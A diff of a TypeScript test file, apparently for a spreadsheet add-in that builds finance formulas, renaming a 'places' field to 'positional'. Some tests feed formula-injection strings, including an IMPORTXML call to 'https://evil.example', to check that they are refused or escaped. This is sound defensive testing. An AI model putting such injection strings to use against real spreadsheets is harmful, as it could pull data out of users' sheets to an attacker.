@@ -10,7 +10,7 @@ function connected(routes: { readonly [name: string]: Route } = {}): FakePlatfor
   return platform;
 }
 
-const transactions = { name: 'FIN_TRANSACTIONS', places: ['all', ''], options: { limit: '5' } };
+const transactions = { name: 'FIN_TRANSACTIONS', positional: ['all', ''], options: { limit: '5' } };
 
 test('offers accounts and tags by name', () => {
   const platform = connected();
@@ -45,12 +45,12 @@ test('previews the first rows, with days as days, and the size of all', () => {
 });
 
 test('a formula of one value previews as that value', () => {
-  const balance = { name: 'FIN_BALANCE', places: ['Checking', 'currency'], options: {} };
+  const balance = { name: 'FIN_BALANCE', positional: ['Checking', 'currency'], options: {} };
   expect(call(connected(), 'previewFormula', balance).data).toEqual({ rowCount: 1, columnCount: 1, rows: [['USD']] });
 });
 
 test('an error of the formula is the error of the preview', () => {
-  const wrong = { ...transactions, places: ['3/4/2026', ''] };
+  const wrong = { ...transactions, positional: ['3/4/2026', ''] };
   expect(call(connected(), 'previewFormula', wrong).error).toMatchObject({ code: 'invalid_date' });
 });
 
@@ -66,7 +66,7 @@ test('the preview and the lists are those of the chosen connection', () => {
     expect(call(platform, operation, value, settings, connection).ok).toBe(true);
     return new Set(platform.requests.map(({ url }) => new URL(url).host));
   };
-  const named = { ...transactions, options: { connection: 'Café' }, places: ['2026-01', ''] };
+  const named = { ...transactions, options: { connection: 'Café' }, positional: ['2026-01', ''] };
   expect(hostsOf('previewFormula', named)).toEqual(new Set(['cafe.example.com']));
   expect(hostsOf('previewFormula', transactions, 'Café')).toEqual(new Set(['cafe.example.com']));
   expect(hostsOf('listChoices', null, 'Café')).toEqual(new Set(['cafe.example.com']));
@@ -141,8 +141,8 @@ test.each([
   [{ ...transactions, name: 'toString' }],
   [{ ...transactions, options: { 'limit=1")+IMPORTXML("x': '1' } }],
   [{ ...transactions, options: { constructor: '1' } }],
-  [{ ...transactions, places: ['a', 'b', 'c'] }],
-  [{ ...transactions, places: [{}] }],
+  [{ ...transactions, positional: ['a', 'b', 'c'] }],
+  [{ ...transactions, positional: [{}] }],
   [{ ...transactions, rowCount: -1 }],
 ])('%j is refused', (value) => {
   const platform = connected();
@@ -154,6 +154,10 @@ test.each([
 test('text of the form stays text in the formula', () => {
   const platform = connected();
   const sheet = select(platform, [['']], 1, 1);
-  call(platform, 'insertFormula', { ...transactions, ...size, places: ['x") & IMPORTXML("https://evil.example', ''] });
+  call(platform, 'insertFormula', {
+    ...transactions,
+    ...size,
+    positional: ['x") & IMPORTXML("https://evil.example', ''],
+  });
   expect(sheet.cells[0]?.[0]).toBe('=FIN_TRANSACTIONS("x"") & IMPORTXML(""https://evil.example", , "limit=5")');
 });
